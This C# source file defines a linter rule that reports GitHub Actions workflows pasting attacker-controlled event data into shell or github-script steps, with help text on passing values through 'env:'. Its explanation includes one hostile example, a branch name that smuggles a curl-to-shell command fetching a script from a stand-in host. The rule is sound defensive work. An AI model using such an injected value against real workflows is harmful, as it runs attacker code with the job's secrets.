using System.Collections.Generic;
using System.Linq;
using OpsTower.Policy.Formats.GitHubActions;
using OpsTower.Policy.Formats.Yaml;

namespace OpsTower.Policy.Rules.GitHubActions;

/// <summary>Attacker-controlled event data is never expanded into a script.</summary>
public sealed class ScriptInjectionRule : FileRule<WorkflowFile>
{
    public static readonly RuleDescriptor Definition = new(
        id: "OTP4004",
        name: "ScriptInjection",
        title: "Untrusted event data is not expanded into scripts.",
        description: "Reports each '${{ … }}' in a 'run:' script, or in the 'script' input of actions/github-script, that reads a context in untrusted_contexts (issue and pull request titles and bodies, head branch names, comment and review bodies, commit messages and authors…), or a whole event object holding one. The same value passed through 'env:' and used as \"$VAR\" is not reported.",
        defaultLevel: FindingLevel.Error,
        securitySeverity: 9.0,
        category: "GitHubActions",
        tags: new[] { "security", "injection", "github-actions" },
        helpMarkdown: """
            ## Why
            `${{ }}` is replaced in the script's text before the shell (or node, for github-script) runs it. Anyone
            who can open an issue or a pull request chooses its title, and a branch can be named
            `a";curl${IFS}evil.sh|sh;"`: the job then runs their commands with its token and secrets.

            ## How to fix
            Pass the value through `env:` and use it as a quoted shell variable, which the shell never parses as code.

            ## Example
            Bad:
            ```yaml
            - run: echo "Title: ${{ github.event.issue.title }}"
            ```
            Good:
            ```yaml
            - env:
                TITLE: ${{ github.event.issue.title }}
              run: echo "Title: $TITLE"
            ```
            """,
        precision: "high",
        peers: new[]
        {
            new PeerRule("zizmor", "template-injection"),
            new PeerRule("actionlint", "expression"),
            new PeerRule("Checkov", "CKV_GHA_7"),
        });

    public override RuleDescriptor Descriptor => Definition;

    public override void Analyze(WorkflowFile workflow, RuleContext context)
    {
        var untrusted = context.Parameters.GetStringList("untrusted_contexts");
        var scriptActions = context.Parameters.GetStringList("script_actions");
        foreach (var step in workflow.Jobs.SelectMany(j => j.Steps))
        {
            var scripts = new List<(YamlScalar Script, string Where)>();
            if (step.Run is { } run) scripts.Add((run, "the shell script"));
            if (scriptActions.Any(step.UsesAction) && step.Input("script") is { } script) scripts.Add((script, "the script"));
            foreach (var (scalar, where) in scripts)
            foreach (var expression in WorkflowExpressions.Find(context.File, scalar))
            {
                string? path = expression.ContextPaths.FirstOrDefault(p => untrusted.Any(u => WorkflowExpressions.PathMatches(p, u)));
                if (path is null) continue;
                context.Report(expression.Span,
                    $"'{path}' is attacker-controlled and '${{{{ }}}}' pastes it into {where} of step {step.DisplayName} before it runs: pass it through 'env:' and use the variable instead.");
            }
        }
    }
}
